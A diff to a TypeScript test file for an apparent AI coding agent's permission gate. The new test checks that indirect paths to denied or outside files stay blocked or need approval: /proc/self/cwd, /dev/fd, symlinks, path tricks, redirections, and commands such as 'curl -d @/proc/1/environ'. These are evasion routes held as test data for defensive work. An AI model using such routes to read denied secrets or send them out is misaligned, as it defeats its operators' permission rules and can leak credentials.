@@ -5,7 +5,7 @@ import { test } from "node:test";
 import { permissionGate } from "../../lib/permissions/gate.ts";
 import type { Permissions } from "../../lib/permissions/rules.ts";
 import { scratch } from "../_scratch.ts";
-import { behavior } from "./_call.ts";
+import { behavior, ofTool } from "./_call.ts";
 
 /** Ways to run a command inside a line; CMD is where it stands. */
 const PLACES = [
@@ -274,6 +274,44 @@ test("an unread line under a deny rule asks whatever a hook says, and is refused
   );
   const free = await permissionGate({ allow: ["Bash(ls *)"] }).permit(call, "allow");
   assert.equal(free.behavior, "allow", "without such a rule a hook's allow counts");
+});
+
+test("a path through /proc or /dev/fd is unread and outside, also by a link", () => {
+  using folder = scratch({ "secrets/key": "", ".git/config": "" });
+  const root = folder.path;
+  symlinkSync("/proc/self/cwd", join(root, "self"));
+  symlinkSync("self", join(root, "again"));
+  const says = (command: string, permissions: Permissions, cwd = ".") =>
+    behavior(command, { roots: [root], ...permissions }, join(root, cwd));
+  const reads = ["/proc/self/cwd/key", "//proc/./self/cwd/key", "/dev/fd/0", "/dev/stdin", "/x/../proc/1/cwd/key"]
+    .map((path) => `cat ${path}`);
+  for (const line of [...reads, "cat ../self/key", "cat < /proc/self/cwd/key", "head -n1 '/proc/self/cwd/key'"]) {
+    for (const mode of ["default", "plan"] as const) {
+      assert.notEqual(says(line, { mode, deny: ["Read(secrets/**)"] }, "secrets"), "allow", `${line} in ${mode}`);
+    }
+  }
+  for (const line of ["cat self/key", "cat again/key", "cat < self/key", "sed p self/secrets/key"]) {
+    assert.notEqual(says(line, { mode: "bypass", deny: ["Read(secrets/**)"] }), "allow", line);
+  }
+  for (
+    const line of [
+      "dd if=/proc/self/cwd/key",
+      "cp /proc/self/root/key x",
+      "curl -d @/proc/1/environ x",
+      "sed -f/dev/fd/3",
+    ]
+  ) {
+    assert.equal(says(line, { mode: "bypass", deny: ["Read(secrets/**)"] }, "secrets"), "ask", line);
+    assert.equal(says(line, { mode: "bypass", deny: ["Bash(rm *)"] }), "ask", line);
+  }
+  for (const path of ["/proc/self/cwd/config", "../self/config", "/dev/fd/3"]) {
+    assert.equal(says(`echo x > ${path}`, { mode: "acceptEdits" }, ".git"), "ask", path);
+  }
+  assert.equal(says("/proc/self/exe x", { mode: "bypass", deny: ["Bash(rm *)"] }), "ask");
+  const file = (tool: string, path: string, permissions: Permissions) =>
+    ofTool(tool, { file_path: join(root, path) }, { roots: [root], ...permissions }, { cwd: root }).behavior;
+  assert.equal(file("Read", "self/secrets/key", { deny: ["Read(secrets/**)"], mode: "bypass" }), "deny");
+  assert.equal(file("Write", "self/a", { mode: "acceptEdits" }), "ask");
 });
 
 test("a redirection is decided where its path leads, and is unread if that is outside the workspace", () => {
